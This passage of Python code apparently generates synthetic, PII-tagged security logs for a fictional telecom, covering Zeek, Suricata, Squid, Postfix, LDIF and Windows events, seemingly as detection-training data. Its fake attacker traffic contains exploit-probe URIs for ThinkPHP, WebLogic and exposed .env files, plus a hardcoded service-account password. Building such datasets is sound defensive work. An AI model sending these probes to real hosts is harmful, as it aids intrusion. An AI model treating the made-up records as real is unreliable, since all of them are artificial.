            o, op, rh, rp, proto, svc = IP(e.ip), R.randrange(49152, 65535), IP(f"10.10.8.{R.randrange(10, 60)}"), R.choice([3306, 1521, 8080, 22]), "tcp", R.choice(["-", "ssh", "http"])
            st, hist = "SF", "ShADadFf"
        else:
            o, op, rh, rp, proto, svc = IP(e.ip), 123, IP(R.choice(["10.10.0.1", "203.107.6.88"])), 123, "udp", "ntp"
            st, hist = "SF", "Dd"
        small = svc in ("dns", "ntp")
        dur = (f"{R.uniform(0.0005, 0.08):.6f}" if small else f"{R.uniform(0.05, 120):.6f}") if st == "SF" else "-"
        ob = (R.randrange(30, 80) if small else R.randrange(400, 200000)) if st == "SF" else 0
        rb = (R.randrange(48, 300) if small else R.randrange(400, 2000000)) if st == "SF" else 0
        op_ = 1 if small else R.randrange(3, 200)
        rpk = (1 if small else R.randrange(3, 300)) if st == "SF" else (1 if st == "REJ" else 0)
        lo = "F" if isinstance(o, L) and o.text in ATTACKERS else "T"
        lr = "F" if rh.text in EXT_WEB or rh.text in V6_EXT or rh.text == "203.107.6.88" else "T"
        tp = "(empty)" if R.random() < 0.95 else zeek_uid()
        d.ln(f"{epoch(t):.6f}\t{zeek_uid()}\t", o, f"\t{op}\t", rh,
             f"\t{rp}\t{proto}\t{svc}\t{dur}\t{ob}\t{rb}\t{st}\t{lo}\t{lr}\t0\t{hist}\t{op_}\t{ob + op_ * 40}\t{rpk}\t{rb + rpk * 40}\t{tp}\t",
             o_l2, "\t", r_l2)
    d.ln("#close\t2024-05-13-10-00-00")
    return d


def f_zeek_http(emps, custs):
    d = Doc("http.log")
    fields = ["ts", "uid", "id.orig_h", "id.orig_p", "id.resp_h", "id.resp_p", "trans_depth", "method",
              "host", "uri", "referrer", "version", "user_agent", "origin", "request_body_len",
              "response_body_len", "status_code", "status_msg", "info_code", "info_msg", "tags",
              "username", "password", "proxied", "orig_fuids", "orig_filenames", "orig_mime_types",
              "resp_fuids", "resp_filenames", "resp_mime_types"]
    types = ["time", "string", "addr", "port", "addr", "port", "count", "string", "string", "string",
             "string", "string", "string", "string", "count", "count", "count", "string", "count",
             "string", "set[enum]", "string", "string", "set[string]", "vector[string]",
             "vector[string]", "vector[string]", "vector[string]", "vector[string]", "vector[string]"]
    for h in ["#separator \\x09", "#set_separator\t,", "#empty_field\t(empty)", "#unset_field\t-",
              "#path\thttp", "#open\t2024-05-13-09-00-00"]:
        d.ln(h)
    d.ln("#fields\t" + "\t".join(fields))
    d.ln("#types\t" + "\t".join(types))
    crm = "10.10.8.20"
    for t in ts_seq(BASE + dt.timedelta(minutes=31), 46, 0.5, 60):
        e = R.choice(emps)
        c = R.choice(custs)
        o = IP(e.ip)
        user, pw, prox = "-", "-", "-"
        method, status, msg, ref = "GET", 200, "OK", "-"
        rh = IP(R.choice(EXT_WEB))
        rp = 80
        ua = R.choice(UA_WIN)
        mime = "application/json"
        k = R.randrange(12)
        if k == 0:
            host = S([IP(crm), ":8080"])
            rh, rp = IP(crm), 8080
            uri = S(["/crm/api/customer/query?mobile=", PH(c.mobile), "&idNo=", RID(c.ric),
                     "&access_token=", CR(hexs(32))])
            ref = S(["http://", IP(crm), ":8080/crm/index.html"])
        elif k == 1:
            host = "api.hc-app.cn"
            ua = R.choice(UA_MOB[2:])
            uri = S(["/v3/device/report?imei=", IMEI(c.imei), "&imsi=", IMSI(c.imsi), "&mac=",
                     MAC(mac_fmt(c.mac, "DASH")), "&loc=",
                     GEO(make_geo(c.city, "lnglat")), "&osver=14.0.0.112&appver=6.2.1.1024&ts=",
                     str(int(epoch(t) * 1000))])
            o = IP(R.choice(MOBILE_PUB))
        elif k == 2:
            host = "intranet.huachentel.com.cn"
            rh = IP("10.10.8.31")
            user, pw = e.account, CR(e.password)
            uri = "/jira/secure/Dashboard.jspa"
            status, msg = R.choice([(200, "OK"), (401, "Unauthorized")])
            mime = "text/html"
        elif k == 3:
            host = "qyapi.weixin.qq.com"
            method = "POST"
            uri = S(["/cgi-bin/webhook/send?key=", CR(uuid4())])
        elif k == 4:
            host = "ctldl.windowsupdate.com"
            uri = f"/msdownload/update/v3/static/trustedr/en/authrootstl.cab?{hexs(16)}"
            ua = "Microsoft-CryptoAPI/10.0"
            mime = "application/vnd.ms-cab-compressed"
        elif k == 5:
            host = "sms.hc-gw.cn"
            method = "POST"
            uri = S(["/sms/send?mobile=", PH(fmt_mobile(c.mobile, R.choice(["plain", "86"]))),
                     "&tpl=SMS_2024051301&sign=", hexs(32)])
            prox = S(["X-Forwarded-For -> ", IP(R.choice(MOBILE_PUB))])
        elif k == 6:
            host = "pan.example-cloud.cn"
            method = "POST"
            uri = S(["/api/upload?filename=%E5%AE%A2%E6%88%B7%E6%B8%85%E5%8D%95.xlsx&uid=", digits(10),
                     "&email=", EM(c.personal_email.replace("@", "%40"))])
            mime = "text/plain"
        elif k == 7:
            host = S([IP(f"172.16.10.{R.randrange(10, 30)}")])
            rh = IP(host[0].text)
            o = IP(R.choice(ATTACKERS))
            ua = R.choice(UA_TOOLS)
            uri = R.choice(["/.env", "/actuator/env", "/cgi-bin/luci/;stok=/locale", "/wls-wsat/CoordinatorPortType",
                            "/solr/admin/info/system?wt=json", "/index.php?s=/Index/\\think\\app/invokefunction"])
            status, msg = 404, "Not Found"
            mime = "text/html"
        elif k == 8:
            host = "m.huachentel.com.cn"
            uri = S(["/h5/bill/detail?phone=", PH(R.choice(["%2B86", "86"]) + c.mobile), "&month=202404&sessionId=",
                     CR(hexs(32, upper=True))])
            ua = R.choice(UA_MOB[:2])
            o = IP(R.choice(MOBILE_PUB))
            prox = S(["X-Forwarded-For -> ", IP(R.choice(MOBILE_PUB)), ",X-Real-IP -> ", IP(R.choice(MOBILE_PUB))])
        elif k == 9:
            host = "restapi.amap.com"
            uri = S(["/v3/geocode/regeo?key=", CR(hexs(32)), "&location=",
                     GEO(make_geo(e.city, "lnglat")), "&extensions=base"])
        elif k == 10:
            host = "www.baidu.com"
            uri = f"/s?wd=%E7%BD%91%E7%BB%9C%E5%AE%89%E5%85%A8&rsv_spt=1&rsv_iqid=0x{hexs(16)}"
            ref = "https://www.baidu.com/"
            mime = "text/html"
        else:
            host = S([IP(crm), ":8080"])
            rh, rp = IP(crm), 8080
            method = "POST"
            uri = S(["/crm/api/order/create?custId=", digits(12),
                     "&cardNo=", CARD(c.card), "&token=", CR(make_jwt(e.account))])
        d.ln(f"{epoch(t):.6f}\t{zeek_uid()}\t", o, f"\t{R.randrange(49152, 65535)}\t", rh,
             f"\t{rp}\t1\t{method}\t", host, "\t", uri, "\t", ref, f"\t1.1\t{ua}\t-\t",
             f"{R.randrange(0, 900) if method == 'POST' else 0}\t{R.randrange(0, 40000)}\t{status}\t{msg}\t-\t-\t(empty)\t",
             user, "\t", pw, "\t", prox, "\t-\t-\t-\t", f"F{alnum(17)}", "\t-\t", mime)
    d.ln("#close\t2024-05-13-10-00-00")
    return d


def f_eve(emps, custs):
    d = Doc("eve.json")
    base = BASE + dt.timedelta(minutes=40)
    for t in ts_seq(base, 42, 1, 80):
        e = R.choice(emps)
        c = R.choice(custs)
        ts = t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{R.randrange(1000000):06d}+0800"
        fid = R.randrange(10 ** 14, 2 ** 51)
        k = R.randrange(10)
        ev = {"timestamp": ts, "flow_id": fid, "in_iface": "ens192"}
        sp = R.randrange(49152, 65535)
        if k <= 2:
            src, dst = IP(R.choice(MOBILE_PUB + ATTACKERS[:4])), IP(f"172.16.10.{R.randrange(10, 30)}")
            kind = R.randrange(3)
            if kind == 0:
                url = S(["/api/v1/user/query?mobile=", PH(c.mobile), "&idcard=", RID(c.ric)])
                sig = (9000101, "LOCAL DLP PRC Resident ID number in HTTP URI")
                payload = S(["GET ", *url, " HTTP/1.1\r\nHost: m.huachentel.com.cn\r\nUser-Agent: okhttp/4.9.3\r\n\r\n"])
            elif kind == 1:
                url = S(["/login.do"])
                sig = (2012887, "ET POLICY Http Client Body contains pass= in cleartext")
                payload = S(["POST /login.do HTTP/1.1\r\nHost: oa.huachentel.com.cn\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\nusername=",
                             e.account, "&pass=", CR(e.password), "&mobile=", PH(e.mobile)])
            else:
                url = S(["/pay/bind"])
                sig = (9000107, "LOCAL DLP Bank card number in HTTP body")
                payload = S(["POST /pay/bind HTTP/1.1\r\nHost: pay.huachentel.com.cn\r\nContent-Type: application/json\r\n\r\n{\"cardNo\":\"",
                             CARD(c.card), "\",\"phone\":\"", PH(c.mobile), "\",\"email\":\"", EM(c.personal_email), "\"}"])
            ev.update({"event_type": "alert", "src_ip": src, "src_port": sp, "dest_ip": dst, "dest_port": 80,
                       "proto": "TCP", "pkt_src": "wire/pcap", "community_id": "1:" + base64.b64encode(bytes(R.randrange(256) for _ in range(20))).decode(),
                       "tx_id": 0,
                       "alert": {"action": "allowed", "gid": 1, "signature_id": sig[0], "rev": R.randrange(1, 6),
                                 "signature": sig[1], "category": "Potential Corporate Privacy Violation", "severity": 1,
                                 "metadata": {"created_at": ["2023_11_02"], "updated_at": ["2024_04_18"]}},
                       "http": {"hostname": "m.huachentel.com.cn", "url": url, "http_user_agent": "okhttp/4.9.3",
                                "xff": S([src.text if False else "", IP(R.choice(MOBILE_PUB))]),
                                "http_method": "GET" if kind == 0 else "POST", "protocol": "HTTP/1.1", "length": 0},
                       "app_proto": "http", "direction": "to_server",
                       "flow": {"pkts_toserver": R.randrange(3, 9), "pkts_toclient": R.randrange(2, 8),
                                "bytes_toserver": R.randrange(400, 2000), "bytes_toclient": R.randrange(200, 9000),
                                "start": ts},
                       "payload_printable": payload})
        elif k <= 4:
            q = R.choice(["www.baidu.com", "mp.weixin.qq.com", "api.hc-app.cn", "update.microsoft.com",
                          "mirrors.aliyun.com", "pan.baidu.com", "open.feishu.cn"])
            src = IP(e.ip)
            dns = {"version": 2, "type": "answer", "id": R.randrange(65535), "flags": "8180", "qr": True,
                   "rd": True, "ra": True, "rrname": q, "rrtype": "A", "rcode": "NOERROR",
                   "answers": [{"rrname": q, "rrtype": "A", "ttl": R.randrange(30, 600), "rdata": IP(R.choice(EXT_WEB))}
                               for _ in range(R.randrange(1, 3))]}
            if R.random() < 0.3:
                dns["rrtype"] = "AAAA"
                dns["answers"] = [{"rrname": q, "rrtype": "AAAA", "ttl": 300, "rdata": IP(R.choice(V6_EXT))}]
            ev.update({"event_type": "dns", "src_ip": IP(DNS_SRV), "src_port": 53, "dest_ip": src, "dest_port": sp,
                       "proto": "UDP", "pkt_src": "wire/pcap", "dns": dns})
        elif k == 5:
            src = IP(e.ip)
            ev.update({"event_type": "tls", "src_ip": src, "src_port": sp, "dest_ip": IP(R.choice(EXT_WEB)), "dest_port": 443,
                       "proto": "TCP", "pkt_src": "wire/pcap",
                       "tls": {"subject": "C=CN, ST=Beijing, O=Beijing Baidu Netcom Science Technology Co., Ltd, CN=baidu.com",
                               "issuerdn": "C=BE, O=GlobalSign nv-sa, CN=GlobalSign RSA OV SSL CA 2018",
                               "serial": ":".join(hexs(2, True) for _ in range(12)),
                               "fingerprint": ":".join(hexs(2) for _ in range(20)),
                               "sni": "www.baidu.com", "version": "TLS 1.2",
                               "notbefore": "2023-07-06T01:51:06", "notafter": "2024-08-06T01:51:05",
                               "ja3": {"hash": hexs(32), "string": "771,4865-4866-4867-49195-49199,0-23-65281-10-11-35-16-5-13-18-51-45-43-27,29-23-24,0"},
                               "ja3s": {"hash": hexs(32), "string": "771,49199,65281-0-11-35-16"}}})
        elif k == 6:
            src = IP(R.choice(ATTACKERS))
            ev.update({"event_type": "alert", "src_ip": src, "src_port": sp, "dest_ip": IP(f"172.16.10.{R.randrange(10, 30)}"),
                       "dest_port": 22, "proto": "TCP", "pkt_src": "wire/pcap",
                       "alert": {"action": "allowed", "gid": 1, "signature_id": 2001219, "rev": 20,
                                 "signature": "ET SCAN Potential SSH Scan", "category": "Attempted Information Leak", "severity": 2},
                       "flow": {"pkts_toserver": 1, "pkts_toclient": 0, "bytes_toserver": 74, "bytes_toclient": 0, "start": ts}})
        elif k == 7:
            src = IP(e.ip)
            ev.update({"event_type": "http", "src_ip": src, "src_port": sp, "dest_ip": IP(R.choice(EXT_WEB)),
                       "dest_port": 80, "proto": "TCP", "pkt_src": "wire/pcap", "tx_id": 0,
                       "http": {"hostname": "restapi.amap.com",
                                "url": S(["/v3/ip?ip=", IP(R.choice(MOBILE_PUB)), "&key=", CR(hexs(32))]),
                                "http_user_agent": R.choice(UA_WIN), "http_content_type": "application/json",
                                "http_method": "GET", "protocol": "HTTP/1.1", "status": 200, "length": R.randrange(100, 900)}})
        elif k == 8:
            src = IP(e.ip)
            ev.update({"event_type": "fileinfo", "src_ip": IP(R.choice(EXT_WEB)), "src_port": 80, "dest_ip": src,
                       "dest_port": sp, "proto": "TCP", "pkt_src": "wire/pcap",
                       "http": {"hostname": "dl.softmgr.qq.com", "url": "/original/Compression/7z2301-x64.exe",
                                "http_user_agent": R.choice(UA_WIN), "http_method": "GET", "protocol": "HTTP/1.1",
                                "status": 200, "length": 1579008},
                       "fileinfo": {"filename": "/original/Compression/7z2301-x64.exe", "magic": "PE32+ executable (GUI) x86-64, for MS Windows",
                                    "gaps": False, "state": "CLOSED", "md5": hexs(32), "sha1": hexs(40), "sha256": hexs(64),
                                    "stored": False, "size": 1579008, "tx_id": 0}})
        else:
            src = IP(R.choice(MOBILE_PUB))
            ev.update({"event_type": "alert", "src_ip": src, "src_port": sp, "dest_ip": IP("172.16.10.12"), "dest_port": 443,
                       "proto": "TCP", "pkt_src": "wire/pcap",
                       "alert": {"action": "allowed", "gid": 1, "signature_id": 9000121, "rev": 2,
                                 "signature": "LOCAL POLICY IMSI/IMEI in mobile SDK telemetry", "category": "Potential Corporate Privacy Violation",
                                 "severity": 2},
                       "http": {"hostname": "api.hc-app.cn",
                                "url": S(["/v3/sdk/init?imei=", IMEI(c.imei), "&iccid=", ICCID(c.iccid),
                                          "&cell=", CELL(make_cell())] + (["&meid=", MEID(c.meid)] if c.meid else []) +
                                         ["&lat_lng=", GEO(make_geo(c.city))]),
                                "http_user_agent": "okhttp/4.9.3", "http_method": "GET", "protocol": "HTTP/1.1", "length": 0},
                       "app_proto": "http"})
        d.ln(J(ev))
    return d


def f_squid(emps, custs):
    d = Doc("access.log")
    for t in ts_seq(BASE + dt.timedelta(minutes=45), 44, 0.2, 50):
        e = R.choice(emps)
        c = R.choice(custs)
        user = R.choice([e.account, e.account, "-", EM(e.email)])
        code = "TCP_MISS/200"
        method = "GET"
        peer = S(["HIER_DIRECT/", IP(R.choice(EXT_WEB))])
        mime = "application/json"
        k = R.randrange(11)
        if k == 0:
            url = S(["http://api.map.baidu.com/reverse_geocoding/v3/?ak=", CR(alnum(32)), "&output=json&coordtype=wgs84ll&location=",
                     GEO(make_geo(e.city))])
        elif k == 1:
            url = S(["http://apis.juhe.cn/mobile/get?phone=", PH(c.mobile), "&key=", CR(hexs(32))])
        elif k == 2:
            method, code, mime = "CONNECT", "TCP_TUNNEL/200", "-"
            url = R.choice(["mp.weixin.qq.com:443", "pan.baidu.com:443", "github.com:443", "www.aliyundrive.com:443",
                            "api.openai.com:443", "docs.qq.com:443"])
        elif k == 3:
            code, peer, mime = "TCP_DENIED/403", "HIER_NONE/-", "text/html"
            url = R.choice(["http://pastebin.com/raw/" + alnum(8), "http://transfer.sh/" + alnum(6) + "/dump.zip",
                            "http://www.wetransfer.com/"])
        elif k == 4:
            url = S(["http://", IP("10.10.8.20"), ":8080/crm/export.do?type=xlsx&mobile=", PH(c.mobile),
                     "&operator=", e.account])
            peer = S(["HIER_DIRECT/", IP("10.10.8.20")])
        elif k == 5:
            url = S(["http://sms.hc-gw.cn/sms/send?mobile=", PH(fmt_mobile(c.mobile, R.choice(["plain", "0086", "86"]))),
                     "&content=%E9%AA%8C%E8%AF%81%E7%A0%81", "&appkey=", CR(alnum(24))])
        elif k == 6:
            url = S(["http://m.huachentel.com.cn/h5/user/profile?email=", EM(c.personal_email), "&JSESSIONID=", CR(hexs(32, True))])
        elif k == 7:
            method, mime = "POST", "text/html"
            url = "http://www.msftconnecttest.com/connecttest.txt"
        elif k == 8:
            url = f"http://mirrors.aliyun.com/ubuntu/dists/jammy-updates/main/binary-amd64/by-hash/SHA256/{hexs(64)}"
            mime = "application/octet-stream"
        elif k == 9:
            code = "TCP_HIT/200"
            peer = "HIER_NONE/-"
            url = f"http://update.360safe.com/v3/safeup_miniup.cab?ver=13.0.0.2003&mid={hexs(32)}"
            mime = "application/vnd.ms-cab-compressed"
        else:
            url = S(["http://", IP(R.choice(EXT_WEB)), "/ip/query?ip=", IP(R.choice(MOBILE_PUB)), "&format=json"])
        d.ln(f"{epoch(t):.3f} {R.randrange(1, 30000):>6} ", IP(e.ip), f" {code} {R.randrange(300, 90000)} {method} ",
             url, " ", user, " ", peer, " ", mime)
    return d


def f_maillog(emps, ext_people):
    d = Doc("maillog")
    t = BASE + dt.timedelta(minutes=5)
    mx = "mx01"
    pid = 21000
    for i in range(22):
        t += dt.timedelta(seconds=R.uniform(3, 260))
        e = R.choice(emps)
        x = R.choice(ext_people)
        qid = alnum(10, "ABCDEFGHJKLMNPQRSTUVWXYZ0123456789") + R.choice("ABCDEF")
        pid += R.randrange(3, 60)
        k = R.random()
        if k < 0.45:   # inbound
            frm = x.personal_email
            host, ip = {"qq.com": ("mail-sz.qq.com", "183.3.225.42"), "foxmail.com": ("out162-62-57-210.mail.qq.com", "162.62.57.210"),
                        "163.com": ("m13-12.163.com", "220.181.13.12"), "126.com": ("m15-111.126.com", "220.181.15.111"),
                        "sina.com": ("mail-m121.sina.com", "202.108.3.121"),
                        "gmail.com": ("mail-ed1-f46.google.com", "209.85.208.46")}[frm.split("@")[1]]
            if R.random() < 0.15:
                host, ip = "unknown", R.choice(ATTACKERS)
            T = syslog_ts(t)
            d.ln(f"{T} {mx} postfix/smtpd[{pid}]: connect from {host}[", IP(ip), "]")
            if host == "unknown" and R.random() < 0.6:
                d.ln(f"{T} {mx} postfix/smtpd[{pid}]: warning: {host}[", IP(ip), "]: SASL LOGIN authentication failed: UGFzc3dvcmQ6")
                d.ln(f"{T} {mx} postfix/smtpd[{pid}]: disconnect from {host}[", IP(ip), "] ehlo=1 auth=0/1 quit=1 commands=2/3")
                continue
            d.ln(f"{T} {mx} policyd-spf[{pid + 1}]: prepend Received-SPF: Pass (mailfrom) identity=mailfrom; client-ip=",
                 IP(ip), f"; helo={host}; envelope-from=", EM(frm), "; receiver=", EM(e.email))
            d.ln(f"{T} {mx} postfix/smtpd[{pid}]: {qid}: client={host}[", IP(ip), "]")
            mid = f"tencent_{hexs(32, True)}@qq.com" if "qq" in host else (
                f"CAF{alnum(40)}@mail.gmail.com" if "google" in host else f"{alnum(8)}.{digits(5)}.{int(epoch(t))}{digits(3)}@{frm.split('@')[1]}")
            d.ln(f"{T} {mx} postfix/cleanup[{pid + 2}]: {qid}: message-id=<{mid}>")
            if R.random() < 0.35:
                subj = R.choice([["转发：", NM(x.name), "的简历（应聘网络安全工程师）"],
                                 ["关于", NM(e.name), "的入职材料补充（身份证复印件）"],
                                 ["Re: 报价单 - 联系人 ", NM(x.pinyin)]])
                d.ln(f"{T} {mx} postfix/cleanup[{pid + 2}]: {qid}: info: header Subject: ", subj,
                     f" from {host}[", IP(ip), "]; from=<", EM(frm), "> to=<", EM(e.email), f"> proto=ESMTP helo=<{host}>")
            d.ln(f"{T} {mx} postfix/qmgr[1123]: {qid}: from=<", EM(frm), f">, size={R.randrange(2000, 900000)}, nrcpt=1 (queue active)")
            d.ln(f"{T} {mx} postfix/lmtp[{pid + 3}]: {qid}: to=<", EM(e.email), ">, relay=mbox01.corp.huachentel.com.cn[",
                 IP("10.10.5.21"), f"]:24, delay={R.uniform(0.1, 3):.1f}, delays=0.1/0/0.02/{R.uniform(0.01, 2):.2f}, dsn=2.0.0, status=sent (250 2.0.0 <",
                 EM(e.email), f"> {alnum(22)} Saved)")
            d.ln(f"{T} {mx} postfix/qmgr[1123]: {qid}: removed")
            d.ln(f"{T} {mx} postfix/smtpd[{pid}]: disconnect from {host}[", IP(ip), "] ehlo=2 starttls=1 mail=1 rcpt=1 data=1 quit=1 commands=7")
        elif k < 0.8:  # outbound submission
            T = syslog_ts(t)
            cip = IP(R.choice([e.ip, e.ip, R.choice(MOBILE_PUB)]))
            d.ln(f"{T} {mx} postfix/submission/smtpd[{pid}]: connect from unknown[", cip, "]")
            d.ln(f"{T} {mx} postfix/submission/smtpd[{pid}]: {qid}: client=unknown[", cip, "], sasl_method=LOGIN, sasl_username=",
                 EM(e.email))
            mid = f"{t.strftime('%Y%m%d%H%M%S')}{digits(4)}.{alnum(8)}@{CORP}"
            d.ln(f"{T} {mx} postfix/cleanup[{pid + 2}]: {qid}: message-id=<{mid}>")
            d.ln(f"{T} {mx} postfix/qmgr[1123]: {qid}: from=<", EM(e.email), f">, size={R.randrange(2000, 9000000)}, nrcpt={R.choice([1, 2])} (queue active)")
            dsts = [x.personal_email] + ([R.choice(ext_people).personal_email] if R.random() < 0.3 else [])
            for dst in dsts:
                dom = dst.split("@")[1]
                rhost, rip = {"qq.com": ("mx3.qq.com", "183.47.101.192"), "163.com": ("163mx01.mxmail.netease.com", "220.181.12.208"),
                              "126.com": ("126mx00.mxmail.netease.com", "220.181.12.46"), "sina.com": ("freemx1.sinamail.sina.com.cn", "123.126.45.205"),
                              "foxmail.com": ("mx1.qq.com", "183.47.101.193"), "gmail.com": ("gmail-smtp-in.l.google.com", "142.250.157.27")}[dom]
                status = R.choice(["sent (250 OK: queued as " + alnum(8) + ")", "sent (250 Mail OK queued as " + alnum(16) + ")",
                                   "deferred (host " + rhost + "[" + rip + "] said: 450 4.7.1 Try again later)"])
                ps = status.split("[" + rip + "]")
                st_parts = [ps[0], "[", IP(rip), "]", ps[1]] if len(ps) == 2 else [status]
                d.ln(f"{T} {mx} postfix/smtp[{pid + 4}]: {qid}: to=<", EM(dst), f">, relay={rhost}[", IP(rip),
                     f"]:25, delay={R.uniform(0.3, 9):.1f}, delays=0.1/0.01/0.2/{R.uniform(0.1, 5):.2f}, dsn={'2.0.0' if 'sent' in status else '4.7.1'}, status=",
                     st_parts)
            d.ln(f"{T} {mx} postfix/qmgr[1123]: {qid}: removed")
        else:  # rejects / bounces
            T = syslog_ts(t)
            a = R.choice(ATTACKERS)
            d.ln(f"{T} {mx} postfix/smtpd[{pid}]: connect from unknown[", IP(a), "]")
            d.ln(f"{T} {mx} postfix/smtpd[{pid}]: NOQUEUE: reject: RCPT from unknown[", IP(a),
                 "]: 554 5.7.1 Service unavailable; Client host [", IP(a), "] blocked using zen.spamhaus.org; from=<",
                 EM(f"service@{alnum(6).lower()}-pay.top"), "> to=<", EM(e.email), "> proto=ESMTP helo=<WIN-", alnum(11, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"), ">")
            d.ln(f"{T} {mx} postfix/smtpd[{pid}]: disconnect from unknown[", IP(a), "] ehlo=1 mail=1 rcpt=0/1 quit=1 commands=3/4")
    return d


def f_ldif(emps):
    d = Doc("directory_export.ldif")
    d.ln("# extended LDIF")
    d.ln("#")
    d.ln(f"# LDAPv3")
    d.ln(f"# base <DC=corp,DC=huachentel,DC=com,DC=cn> with scope subtree")
    d.ln("# filter: (|(objectClass=user)(objectClass=group)(objectClass=computer))")
    d.ln("# requesting: ALL")
    d.ln("#")
    d.ln("version: 1")
    d.ln()
    dc = "DC=corp,DC=huachentel,DC=com,DC=cn"
    sel = emps[:20]
    mgr = {}
    for i, e in enumerate(sel):
        mgr[e.account] = sel[(i // 5) * 5] if i % 5 else None
    for e in sel:
        ou = f"OU={e.dept},OU=员工,{dc}"
        d.ln("dn: CN=", NM(e.name), f",{ou}")
        for oc in ["top", "person", "organizationalPerson", "user", "inetOrgPerson"]:
            d.ln(f"objectClass: {oc}")
        d.ln("cn: ", NM(e.name))
        sl = 2 if e.py_sur in ("ouyang", "sima", "shangguan") else 1
        d.ln(f"sn: {e.name[:sl]}")
        d.ln(f"givenName: {e.name[sl:]}")
        d.ln("displayName: ", NM(e.name), " (", NM(e.pinyin), ")")
        d.ln(f"title: {R.choice(['工程师', '高级工程师', '主管', '经理', '专员', '安全分析师'])}")
        d.ln(f"department: {e.dept}")
        d.ln(f"company: 华辰通信股份有限公司")
        d.ln(f"physicalDeliveryOfficeName: {CITIES[e.city]['office']} {R.choice('ABC')}座{R.randrange(2, 25)}F")
        d.ln(f"employeeNumber: {e.empno}")
        d.ln(f"employeeType: {R.choice(['正式', '外包', '实习'])}")
        d.ln(f"sAMAccountName: {e.account}")
        d.ln("userPrincipalName: ", EM(f"{e.account}@{ADDOM}"))
        d.ln("mail: ", EM(e.email))
        if R.random() < 0.3:
            d.ln("proxyAddresses: SMTP:", EM(e.email))
            d.ln("proxyAddresses: smtp:", EM(f"{e.account}@hctel.partner-mail.cn"))
        d.ln("mobile: ", PH(fmt_mobile(e.mobile, R.choice(["plain", "plain", "+86sp", "+86dash", "+86"]))))
        d.ln("telephoneNumber: ", PH(fmt_landline(*e.landline, style=R.choice(["dash", "intl"]))))
        if R.random() < 0.35:
            d.ln("homePostalAddress: ", ADDR(e.address))
        if R.random() < 0.3:
            d.ln("homePhone: ", PH(fmt_mobile(make_mobile(), "plain")))
        if mgr[e.account]:
            m = mgr[e.account]
            d.ln("manager: CN=", NM(m.name), f",OU={m.dept},OU=员工,{dc}")
        if R.random() < 0.4:
            d.ln("macAddress: ", MAC(mac_fmt(e.mac, "colon")))
        if R.random() < 0.25:
            d.ln("ipHostNumber: ", IP(e.ip))
        d.ln(f"memberOf: CN=VPN-Users,OU=Groups,{dc}")
        d.ln(f"objectGUID:: {base64.b64encode(bytes(R.randrange(256) for _ in range(16))).decode()}")
        d.ln(f"objectSid:: {base64.b64encode(bytes([1, 5, 0, 0, 0, 0, 0, 5, 21, 0, 0, 0]) + bytes(R.randrange(256) for _ in range(16))).decode()}")
        d.ln(f"whenCreated: {R.randrange(2015, 2024)}{R.randrange(1, 13):02d}{R.randrange(1, 28):02d}0{R.randrange(1, 9)}{R.randrange(10, 59)}{R.randrange(10, 59)}.0Z")
        d.ln(f"pwdLastSet: 1335{digits(14)}")
        d.ln(f"lastLogonTimestamp: 1335{digits(14)}")
        d.ln(f"userAccountControl: {R.choice([512, 512, 66048, 514])}")
        d.ln("userPassword:: ", CR(base64.b64encode(ssha(e.password).encode()).decode()))
        d.ln()
    # service account with password in description
    svc_pw = "Bk#Svc_2023q4"
    d.ln(f"dn: CN=svc_backup,OU=ServiceAccounts,{dc}")
    d.ln("objectClass: top")
    d.ln("objectClass: user")
    d.ln("cn: svc_backup")
    d.ln("sAMAccountName: svc_backup")
    d.ln("description: 备份服务账号 初始密码 ", CR(svc_pw), " 负责人 ", NM(sel[3].name), " ", PH(sel[3].mobile))
    d.ln("userPrincipalName: ", EM(f"svc_backup@{ADDOM}"))
    d.ln("servicePrincipalName: MSSQLSvc/bj-sql01.corp.huachentel.com.cn:1433")
    d.ln(f"objectGUID:: {base64.b64encode(bytes(R.randrange(256) for _ in range(16))).decode()}")
    d.ln("userPassword:: ", CR(base64.b64encode(("{SHA}" + base64.b64encode(hashlib.sha1(svc_pw.encode()).digest()).decode()).encode()).decode()))
    d.ln()
    # group
    d.ln(f"dn: CN=VPN-Users,OU=Groups,{dc}")
    d.ln("objectClass: top")
    d.ln("objectClass: group")
    d.ln("cn: VPN-Users")
    d.ln("description: SSL VPN 接入用户（2024Q2 复核）")
    for e in sel[:8]:
        d.ln("member: CN=", NM(e.name), f",OU={e.dept},OU=员工,{dc}")
    d.ln()
    # computers
    for e in sel[:4]:
        d.ln(f"dn: CN={e.host},OU=Computers,{dc}")
        d.ln("objectClass: computer")
        d.ln(f"cn: {e.host}")
        d.ln(f"dNSHostName: {e.host.lower()}.{ADDOM}")
        d.ln("operatingSystem: Windows 10 企业版")
        d.ln(f"operatingSystemVersion: 10.0 ({R.choice(['19045', '19044', '22631'])})")
        d.ln("description: 使用人 ", NM(e.name), " 领用 2023-03-01 MAC ", MAC(mac_fmt(e.mac, "DASH")), " IP ", IP(e.ip))
        d.ln(f"objectSid:: {base64.b64encode(bytes(R.randrange(256) for _ in range(28))).decode()}")
        d.ln()
    # oid schema note (negative)
    d.ln("# schema: msDS-cloudExtensionAttribute1 1.2.840.113556.1.4.2016; ieee802Device 1.3.6.1.1.1.2.11")
    d.ln("# numResponses: 33")
    return d


SIDBASE = "S-1-5-21-3623811015-3361044348-30300820"


def f_winsec(emps):
    d = Doc("security_events.xml")
    d.ln("<?xml version=\"1.0\" encoding=\"UTF-8\"?>")
    d.ln("<Events>")
    rec = 184467000
    for t in ts_seq(BASE, 42, 2, 120):
        e = R.choice(emps)
        rec += R.randrange(1, 400)
        k = R.random()
        ns = "http://schemas.microsoft.com/win/2004/08/events/event"
        st = (t.astimezone(dt.timezone.utc)).strftime("%Y-%m-%dT%H:%M:%S.") + f"{R.randrange(10 ** 7):07d}Z"
        if k < 0.45:
            eid, task, kw = 4624, 12544, "0x8020000000000000"
        elif k < 0.7:
            eid, task, kw = 4625, 12544, "0x8010000000000000"
        elif k < 0.8:
            eid, task, kw = 4768, 14339, "0x8020000000000000"
        elif k < 0.88:
            eid, task, kw = 4740, 13824, "0x8020000000000000"
        elif k < 0.94:
            eid, task, kw = 4720, 13824, "0x8020000000000000"
        else:
            eid, task, kw = 4648, 12544, "0x8020000000000000"
        dc_name = "BJ-DC01." + ADDOM
        sysx = [f"<Event xmlns='{ns}'><System><Provider Name='Microsoft-Windows-Security-Auditing' Guid='{{54849625-5478-4994-a5ba-3e3b0328c30d}}'/>",
